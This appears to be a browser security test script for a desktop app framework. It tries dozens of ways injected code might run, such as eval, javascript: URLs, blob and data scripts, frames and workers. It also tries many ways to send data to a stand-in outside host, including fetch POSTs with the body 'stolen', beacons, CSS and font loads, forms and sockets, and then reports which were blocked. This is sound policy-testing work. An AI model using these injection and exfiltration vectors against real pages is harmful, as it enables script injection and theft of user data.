// Each way in which injected code might run or speak to others; the app's listener hears the latter.
import { invoke } from "@millennium/api";

const ran = {}, violations = new Set(), label = globalThis.__MILLENNIUM_INTERNALS__.label;
const elsewhere = `${await invoke("where")}/${label}`, doorbell = await invoke("doorbell"), foreign = "millennium://elsewhere.localhost";
globalThis.mark = (name) => { ran[name] = true; };
addEventListener("message", ({ data }) => { if (typeof data === "string") mark(data); });
document.addEventListener("securitypolicyviolation", (event) => violations.add(event.effectiveDirective));

const add = (tag, attributes = {}, parent = document.body) => {
  const made = document.createElement(tag);
  for (const key in attributes) made.setAttribute(key, attributes[key]);
  parent.append(made);
  return made;
};
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
const inline = (text, attributes = {}) => {
  const made = document.createElement("script");
  for (const key in attributes) made.setAttribute(key, attributes[key]);
  made.textContent = text;
  document.body.append(made);
};
const said = (name) => `<script>parent.postMessage('${name}','*')<\/script>`;
const listening = (name, make) => {
  const worker = make();
  (worker.port ?? worker).onmessage = ({ data }) => mark(data ?? name);
};
const kindOf = (f) => Object.getPrototypeOf(f).constructor;

const WASM = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]); // an empty module

const CODE = {
  "inline script": () => inline("mark('inline script')"),
  "inline module": () => inline("mark('inline module')", { type: "module" }),
  "guessed nonce": () => inline("mark('guessed nonce')", { nonce: "AAAA" }),
  "written script": () => add("iframe").contentDocument.write("<script>parent.mark('written script')<\/script>"),
  "event handler": () => { add("div").innerHTML = "<img src='data:,' onerror=\"mark('event handler')\">"; },
  "handler set later": () => add("button", { onclick: "mark('handler set later')" }).click(),
  "animation handler": () => { add("div").innerHTML = "<svg><animate attributeName='x' dur='1s' onbegin=\"mark('animation handler')\"/></svg>"; },
  "javascript link": () => add("a", { href: "javascript:mark('javascript link')" }).click(),
  "javascript frame": () => add("iframe", { src: "javascript:parent.mark('javascript frame')" }),
  "javascript form": () => add("form", { action: "javascript:mark('javascript form')" }).submit(),
  "javascript location": () => { location.href = "javascript:void mark('javascript location')"; },
  "eval": () => eval("mark('eval')"),
  "indirect eval": () => (0, eval)("mark('indirect eval')"),
  "Function": () => new Function("mark('Function')")(),
  "async Function": () => kindOf(async () => {})("mark('async Function')")(),
  "generator Function": () => kindOf(function* () {})("mark('generator Function')")().next(),
  "string timeout": () => setTimeout("mark('string timeout')", 0),
  "string interval": () => { const timer = setInterval("mark('string interval')", 10); setTimeout(clearInterval, 500, timer); },
  "wasm instance": () => { if (new WebAssembly.Instance(new WebAssembly.Module(WASM))) mark("wasm instance"); },
  "wasm instantiate": async () => { if (await WebAssembly.instantiate(WASM)) mark("wasm instantiate"); },
  "data script": () => add("script", { src: "data:text/javascript,mark('data script')" }),
  "blob script": () => add("script", { src: blob("mark('blob script')") }),
  "foreign script": () => add("script", { src: `${elsewhere}/script` }),
  "script of another host": () => add("script", { src: `${foreign}/other.js` }),
  "data module": () => import("data:text/javascript,mark('data module')"),
  "blob module": () => import(blob("mark('blob module')")),
  "foreign module": () => import(`${elsewhere}/module`),
  "srcdoc script": () => add("iframe", { srcdoc: "<script>parent.mark('srcdoc script')<\/script>" }),
  "data frame": () => add("iframe", { src: `data:text/html,${encodeURIComponent(said("data frame"))}` }),
  "blob frame": () => add("iframe", { src: blob(said("blob frame"), "text/html") }),
  "foreign frame": () => add("iframe", { src: `${elsewhere}/frame` }),
  "own frame": () => add("iframe", { src: "/framed.html" }),
  "data object": () => add("object", { type: "text/html", data: `data:text/html,${encodeURIComponent(said("data object"))}` }),
  "data embed": () => add("embed", { type: "text/html", src: `data:text/html,${encodeURIComponent(said("data embed"))}` }),
  "foreign object": () => add("object", { type: "text/html", data: `${elsewhere}/object` }),
  "foreign embed": () => add("embed", { type: "text/html", src: `${elsewhere}/embed` }),
  "blob worker": () => listening("blob worker", () => new Worker(blob("postMessage('blob worker')"))),
  "blob module worker": () => listening("blob module worker", () => new Worker(blob("postMessage('blob module worker')"), { type: "module" })),
  "data worker": () => listening("data worker", () => new Worker("data:text/javascript,postMessage('data worker')")),
  "own worker": () => listening("own worker", () => new Worker(`/work.js?${encodeURIComponent(elsewhere)}`)),
};

const SPEECH = {
  fetch: (url) => fetch(url, { mode: "no-cors", method: "POST", body: "stolen" }),
  xhr: (url) => { const request = new XMLHttpRequest(); request.open("GET", url); request.send(); },
  beacon: (url) => navigator.sendBeacon(url, "stolen"),
  keepalive: (url) => fetch(url, { mode: "no-cors", method: "POST", body: "stolen", keepalive: true }),
  ping: (url) => add("a", { href: "#pinged", ping: url }).click(),
  preconnect: () => add("link", { rel: "preconnect", href: doorbell }),
  poster: (url) => add("video", { poster: url }),
  modulepreload: (url) => add("link", { rel: "modulepreload", href: url }),
  "input-image": (url) => add("input", { type: "image", src: url }),
  track: (url) => { const video = add("video"); add("track", { src: url, default: "" }, video).track.mode = "showing"; video.src = "data:video/webm;base64,AAAA"; },
  srcset: (url) => add("img", { srcset: `${url} 1x` }),
  picture: (url) => { add("div").innerHTML = `<picture><source srcset="${url}"><img></picture>`; },
  parsed: (url) => document.body.append(new DOMParser().parseFromString(`<img src="${url}">`, "text/html").body.firstChild),
  cursor: (url) => { add("p").style.cursor = `url(${url}), auto`; },
  "list-style": (url) => { add("li").style.listStyleImage = `url(${url})`; },
  mask: (url) => { add("p").style.webkitMaskImage = `url(${url})`; },
  content: (url) => { add("p").style.content = `url(${url})`; },
  filter: (url) => { add("div").innerHTML = `<svg><filter id="f"><feImage href="${url}"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>`; },
  artwork: (url) => { navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: url, sizes: "96x96" }] }); },
  "constructed-sheet": (url) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`body { background-image: url(${url}) }`); document.adoptedStyleSheets = [sheet]; },
  srcdoc: (url) => add("iframe", { srcdoc: `<img src="${url}">` }),
  credentials: (url) => new EventSource(url, { withCredentials: true }),
  socket: (url) => new WebSocket(url.replace("http", "ws")),
  events: (url) => new EventSource(url),
  image: (url) => { new Image().src = url; },
  background: (url) => { add("p").style.backgroundImage = `url(${url})`; },
  font: (url) => new FontFace("stolen", `url(${url})`).load(),
  audio: (url) => add("audio", { src: url, preload: "auto" }),
  stylesheet: (url) => add("link", { rel: "stylesheet", href: url }),
  preload: (url) => add("link", { rel: "preload", as: "script", href: url }),
  svg: (url) => { add("div").innerHTML = `<svg><image href="${url}"/></svg>`; },
  "form-get": (url) => { add("iframe", { name: "got" }); add("form", { action: url, target: "got" }).submit(); },
  "form-post": (url) => { add("iframe", { name: "posted" }); add("form", { action: url, method: "post", target: "posted" }).submit(); },
  "form-button": (url) => { add("iframe", { name: "pressed" }); const form = add("form", { method: "post", target: "pressed" }); add("button", { formaction: url }, form).click(); },
};

const coloured = (id) => getComputedStyle(document.getElementById(id)).color === "rgb(1, 2, 3)";
const rule = (id) => `#${id} { color: rgb(1, 2, 3) }`;
const STYLES = {
  "injected-style": () => { add("style").textContent = rule("injected-style"); },
  "data-style": () => add("link", { rel: "stylesheet", href: `data:text/css,${encodeURIComponent(rule("data-style"))}` }),
  "blob-style": () => add("link", { rel: "stylesheet", href: blob(rule("blob-style"), "text/css") }),
  "foreign-style": () => add("link", { rel: "stylesheet", href: `${elsewhere}/style` }),
};

for (const attack of Object.values({ ...CODE, ...STYLES })) {
  try { Promise.resolve(attack()).catch(() => {}); } catch { /* refused */ }
}
for (const way in SPEECH) {
  try { Promise.resolve(SPEECH[way](`${elsewhere}/${way}`)).catch(() => {}); } catch { /* refused */ }
}
const base = add("base", { href: `${elsewhere}/` });
ran["base moved"] = document.baseURI !== location.href;
base.remove();
ran["style attribute"] = getComputedStyle(add("p", { style: "color: rgb(1, 2, 3)" })).color === "rgb(1, 2, 3)";
const service = await (navigator.serviceWorker ? navigator.serviceWorker.register("/work.js").then(() => "registered", (error) => error.name) : "absent");

const within = ["eval", "Function", "string timeout", "data script", "blob script", "imported script", "data module", "worker of a worker"];
const expected = [...Object.keys(CODE), ...within.map((name) => `worker: ${name}`)];
const pause = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
const start = performance.now(), limit = () => (violations.size ? 2000 : 10000); // a control ends when all has run
while (performance.now() - start < limit() && expected.some((name) => !ran[name])) await pause(50);
await pause(500);
for (const id in STYLES) ran[id] = coloured(id);
const sound = { authored: globalThis.authored === true, style: coloured("authored"), own: (await fetch("/framed.html")).status };
await invoke("report", { result: { ran, sound, service, violations: [...violations].sort() } });
